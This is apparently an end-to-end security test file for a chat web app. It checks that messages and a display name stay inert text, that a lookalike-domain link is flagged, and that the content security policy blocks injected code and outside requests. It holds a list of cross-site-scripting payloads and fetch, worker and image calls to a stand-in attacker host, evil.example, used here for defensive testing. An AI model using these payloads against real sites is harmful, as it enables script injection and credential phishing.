import type { BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { connect, Person } from './support/person.ts';
import { type Product, startProduct } from './support/product.ts';

const PAYLOADS = [
  `<script>window.pwned=1</script>`,
  `<img src=x onerror="window.pwned=1">`,
  `<svg onload=window.pwned=1><style>*{background:url(https://evil.example/css)}</style>`,
  `"><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `javascript:window.pwned=1`,
  `<a href="javascript:window.pwned=1">press me</a>`,
  `{{constructor.constructor('window.pwned=1')()}} \${window.pwned=1}`,
  `https://good.example"onmouseover="window.pwned=1`,
  `https://bank.example@evil.example/login`,
  `</title><script>window.pwned=1</script>`,
  `data:text/html,<script>opener.pwned=1</script>`,
];
const NAME = `<img src=x onerror=window.pwned=1>`;

let product: Product;
let ana: Person;
let mallory: Person;
/** Every address that any page asked for, and everything a policy stopped. */
const asked: string[] = [];
const stopped: string[] = [];

async function watched(): Promise<BrowserContext> {
  const context = await product.browser.newContext({ viewport: { width: 1280, height: 800 } });
  context.on('request', (request) => asked.push(request.url()));
  await context.exposeFunction('reportViolation', (text: string) => stopped.push(text));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report = (globalThis as unknown as { reportViolation: (text: string) => void }).reportViolation;
      report(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  return context;
}

const pwned = (person: Person): Promise<unknown> => person.page.evaluate(() => (window as { pwned?: unknown }).pwned);

beforeAll(async () => {
  product = await startProduct();
  ana = await Person.open(await watched(), product.relay.url, 'Ana');
  mallory = await Person.open(await watched(), product.relay.url, NAME);
  await Promise.all([ana.createAccount(), mallory.createAccount()]);
});
afterAll(() => product.close());

test(
  'R13: markup in names and messages stays text, on both sides, in every place that shows it',
  { timeout: 180_000 },
  async () => {
    await connect(ana, mallory);
    for (const payload of PAYLOADS) await mallory.send(payload);
    const last = PAYLOADS.at(-1) ?? '';
    await ana.page.locator('article').filter({ hasText: last }).waitFor();
    await mallory.page.locator('article').filter({ hasText: last }).waitFor();
    for (const person of [ana, mallory]) {
      const shown = await person.messages();
      for (const payload of PAYLOADS) expect(shown.some((row) => row.text.includes(payload.slice(0, 20)))).toBe(true);
    }
    // The places that show a name: list, header, details, dialogs, palette; and the quiet line of a rename.
    await ana.page.getByRole('button', { name: 'Menu of this chat' }).click();
    await ana.page.getByRole('menuitem', { name: 'Contact' }).click();
    await ana.page.getByRole('button', { name: /^Delete </ }).click();
    await ana.page.getByRole('dialog').getByText(NAME).first().waitFor();
    await ana.page.keyboard.press('Escape');
    await ana.page.keyboard.press('Control+k');
    await ana.page.getByRole('option', { name: NAME }).waitFor();
    await ana.page.keyboard.press('Escape');

    for (const person of [ana, mallory]) {
      expect(await pwned(person)).toBeUndefined();
      const dom = await person.page.evaluate(() => ({
        foreign: document.querySelectorAll('#root :is(script, iframe, img, style, object, embed, form[action])').length,
        links: [...document.querySelectorAll<HTMLAnchorElement>('article a')].map((link) => link.href),
        handlers: [...document.querySelectorAll('#root *')].filter((element) =>
          element.getAttributeNames().some((name) => name.startsWith('on')),
        ).length,
      }));
      expect(dom.foreign).toBe(0);
      expect(dom.handlers).toBe(0);
      for (const link of dom.links) {
        expect(new URL(link).protocol).toBe('https:');
        expect(link).not.toContain('evil.example/login');
      }
    }
  },
);

test('AT-25: a link whose host is not what it looks like is named and asked about', { timeout: 60_000 }, async () => {
  await mallory.send('look: https://аррӏе.com/login');
  const link = ana.page.getByTestId('messages').getByRole('link', { name: /аррӏе/ });
  await link.waitFor();
  expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
  await ana.page.getByText('(leads to xn--80ak6aa92e.com)').waitFor();
  await link.click();
  const dialog = ana.page.getByRole('dialog', { name: 'Open this address?' });
  await dialog.getByText('https://xn--80ak6aa92e.com/login').waitFor();
  expect(await ana.page.evaluate(() => document.activeElement?.textContent)).toBe('Cancel');
  await ana.page.keyboard.press('Enter');
  await dialog.waitFor({ state: 'detached' });
});

test('J4 R14: nothing was asked of anybody else, and no policy had anything to stop', () => {
  const foreign = asked.filter((url) => !url.startsWith(product.relay.url) && !/^(?:data|blob):/.test(url));
  expect(foreign).toEqual([]);
  expect(stopped).toEqual([]);
});

test('R14: the policies are really there: each way in is refused', { timeout: 60_000 }, async () => {
  const { page } = mallory;
  const attempts = await page.evaluate(async () => {
    const outcome = async (work: () => unknown): Promise<string> => {
      try {
        await work();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    const inline = document.createElement('script');
    inline.append('window.pwned=2');
    return {
      html: await outcome(() => {
        document.createElement('div').innerHTML = '<img src=x onerror="window.pwned=2">';
      }),
      // In a turn of its own: the policy does not bind what the test's own connection evaluates directly.
      code: await outcome(
        () =>
          new Promise((resolve, reject) => {
            setTimeout(() => {
              try {
                // oxlint-disable-next-line typescript/no-implied-eval -- that it is refused is what is tested
                resolve(new Function('window.pwned=2')());
              } catch (error) {
                reject(error instanceof Error ? error : new Error('refused'));
              }
            });
          }),
      ),
      inline: await outcome(() => document.body.append(inline)),
      worker: await outcome(() => new Worker('https://evil.example/worker.js')),
      policy: await outcome(() =>
        (
          window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
        ).trustedTypes.createPolicy('mine', {
          createHTML: (text: string) => text,
        }),
      ),
      outside: await outcome(() => fetch('https://evil.example/')),
      image: await outcome(
        () =>
          new Promise((resolve, reject) => {
            const image = new Image();
            image.addEventListener('load', resolve);
            image.addEventListener('error', reject);
            image.src = 'https://evil.example/pixel.png';
          }),
      ),
    };
  });
  expect(attempts).toMatchObject({ html: 'TypeError', worker: 'TypeError', policy: 'TypeError', outside: 'TypeError' });
  expect(attempts.code).not.toBe('done');
  expect(attempts.image).not.toBe('done');
  expect(await pwned(mallory)).toBeUndefined();
  await expect.poll(() => stopped.length).toBeGreaterThan(4);

  const headers = (await fetch(product.relay.url)).headers;
  const csp = headers.get('content-security-policy') ?? '';
  for (const rule of [
    "default-src 'none'",
    "require-trusted-types-for 'script'",
    'trusted-types whispr',
    "frame-ancestors 'none'",
  ])
    expect(csp).toContain(rule);
  expect(csp).not.toContain('unsafe-inline');
  expect(csp).not.toContain("'unsafe-eval'");
  expect(headers.get('referrer-policy')).toBe('no-referrer');
});
